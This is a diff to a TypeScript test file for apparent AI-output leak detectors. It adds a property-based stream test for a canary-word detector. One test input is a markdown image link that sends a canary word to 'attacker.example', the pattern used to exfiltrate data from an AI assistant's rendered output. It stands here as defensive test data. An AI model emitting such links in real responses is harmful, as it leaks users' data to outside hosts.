@@ -1,6 +1,7 @@
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import { canaryWord, detectors, isCanaryWord } from "./index.ts";
+import { checkStreamLaws } from "./testing/stream-laws.ts";
 
 describe.each(detectors)("the detector $id", (detector) => {
   const inspect = (text: string) => detector.inspect({ stage: "output", role: "assistant", text });
@@ -29,8 +30,21 @@ describe.each(detectors)("the detector $id", (detector) => {
   it("says the same of the same text", () => {
     const text = `![a](https://attacker.example/p?d=${canaryWord(9)})`;
     expect(inspect(text)).toEqual(inspect(text));
-    expect(inspect(text).length).toBe(1);
   });
+});
+
+it("the detector canary keeps the laws of streams", () => {
+  const canary = detectors.find(({ id }) => id === "canary");
+  if (canary === undefined) throw new Error("There is no canary detector.");
+  const piece = fc.constantFrom(
+    canaryWord(3),
+    canaryWord(4).slice(0, 9),
+    "word",
+    " ",
+    "x",
+    canaryWord(5).toUpperCase(),
+  );
+  checkStreamLaws(canary, { texts: fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join("")) });
 });
 
 it("canary words are known as such at the door", () => {
